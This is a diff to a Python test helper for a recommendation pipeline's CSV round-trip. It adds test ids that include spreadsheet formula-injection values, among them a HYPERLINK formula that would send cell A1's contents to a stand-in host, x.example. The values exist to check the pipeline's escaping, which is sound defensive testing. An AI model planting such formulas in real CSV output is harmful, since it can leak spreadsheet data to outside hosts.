@@ -8,10 +8,15 @@ from conftest import ROOT, demo_raw
 from pipelines.config import Config, apply_overrides
 
 
-# Ids that type inference or stripping used to mangle ('007' -> 7, '1.5' -> '1.500000'):
-# the e2e data uses them, and they must come back exactly as written.
-ODD_PRODUCTS = {"P00001": "007", "P00002": "1.5", "P00003": " A1 ", "P00004": "Ünïcödé-产品"}
-ODD_CUSTOMERS = {"C00004": "0042", "C00005": "顧客 5"}
+# Ids that type inference or stripping used to mangle ('007' -> 7, '1.5' -> '1.500000'),
+# and ids a spreadsheet would run as formulas, or that start with '-' legitimately: the e2e
+# data uses them, and they must come back exactly as written (through csvsafe.unescape
+# from a CSV twotower wrote: pipelines/csvsafe.py).
+ODD_PRODUCTS = {"P00001": "007", "P00002": "1.5", "P00003": " A1 ", "P00004": "Ünïcödé-产品",
+                "P00005": '=HYPERLINK("x.example/?"&A1,"win")', "P00006": "-5",
+                "P00007": "+SUM(1+1)"}
+ODD_CUSTOMERS = {"C00004": "0042", "C00005": "顧客 5", "C00011": "@SUM(A1)",
+                 "C00012": "-A12"}
 
 
 def rename_ids(data):
@@ -49,12 +54,15 @@ def run_pipeline(tmp, name, overrides, customers=300, products=150, purchases=80
                           + list(overrides))
     config_path = tmp / "config.json"
     config_path.write_text(json.dumps(raw))
+    system_tmp = tmp / "system-tmp"  # the run's system temp folder: it must stay empty
+    os.makedirs(system_tmp)
     done = subprocess.run([sys.executable, "-m", "pipelines", "run", "--config",
                            str(config_path)], capture_output=True, text=True, cwd=ROOT,
-                          env=dict(os.environ, **PLANTED))
+                          env=dict(os.environ, TMPDIR=str(system_tmp), **PLANTED))
     assert done.returncode == 0, (done.stdout + done.stderr)[-6000:]
-    return {"root": os.path.join(root, name), "data": data, "stdout": done.stdout, "stderr": done.stderr,
-            "config": Config.from_dict(raw), "name": name}
+    return {"root": os.path.join(root, name), "data": data, "stdout": done.stdout,
+            "stderr": done.stderr, "config": Config.from_dict(raw), "name": name,
+            "system_tmp": str(system_tmp), "system_tmp_after": sorted(os.listdir(system_tmp))}
 
 
 def query_inputs(run, described, customers):
@@ -75,18 +83,35 @@ def catalog_ids(run):
         return {r["product_id"] for r in csv.DictReader(handle)}
 
 
-def recommend_cli(run, tmp, users, k):
-    """Runs `twotower recommend` for ``users`` (customer ids); returns the CSV's rows."""
+def write_users(path, users):
+    """A users CSV (one customer_id per row, quoted where needed)."""
     import csv
 
-    path = tmp / "users.csv"
-    path.write_text("customer_id\n" + "\n".join(users) + "\n")
-    out = tmp / "recs.csv"
-    done = subprocess.run([sys.executable, "-m", "pipelines", "recommend", "--model", run["root"],
-                           "--users", str(path), "--k", str(k), "--out", str(out)],
-                          capture_output=True, text=True, cwd=ROOT)
-    assert done.returncode == 0, (done.stdout + done.stderr)[-4000:]
-    with open(out, encoding="utf-8") as handle:
+    with open(path, "w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["customer_id"])
+        writer.writerows([u] for u in users)
+    return str(path)
+
+
+def read_recs(path):
+    """A CSV `twotower recommend` wrote, with the ids as they were (csvsafe.unescape)."""
+    import csv
+
+    from pipelines.csvsafe import unescape
+
+    with open(path, encoding="utf-8", newline="") as handle:
         assert handle.readline().strip() == "user_id,item_id,rank"
         handle.seek(0)
-        return list(csv.DictReader(handle))
+        return [{k: unescape(v) for k, v in row.items()} for row in csv.DictReader(handle)]
+
+
+def recommend_cli(run, tmp, users, k):
+    """Runs `twotower recommend` for ``users`` (customer ids); returns the CSV's rows."""
+    path = write_users(tmp / "users.csv", users)
+    out = tmp / "recs.csv"
+    done = subprocess.run([sys.executable, "-m", "pipelines", "recommend", "--model", run["root"],
+                           "--users", path, "--k", str(k), "--out", str(out)],
+                          capture_output=True, text=True, cwd=ROOT)
+    assert done.returncode == 0, (done.stdout + done.stderr)[-4000:]
+    return read_recs(out)
